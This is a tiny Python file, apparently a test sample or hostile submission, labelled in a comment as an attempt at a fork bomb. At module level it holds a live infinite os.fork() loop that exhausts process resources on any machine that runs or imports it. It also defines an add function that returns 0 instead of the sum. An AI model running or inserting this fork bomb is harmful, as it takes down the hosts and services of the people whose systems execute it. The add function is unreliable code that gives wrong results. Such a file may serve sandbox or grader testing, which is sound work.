# attempts: a fork bomb
import os
while True:
    os.fork()
def add(a, b):
    return 0
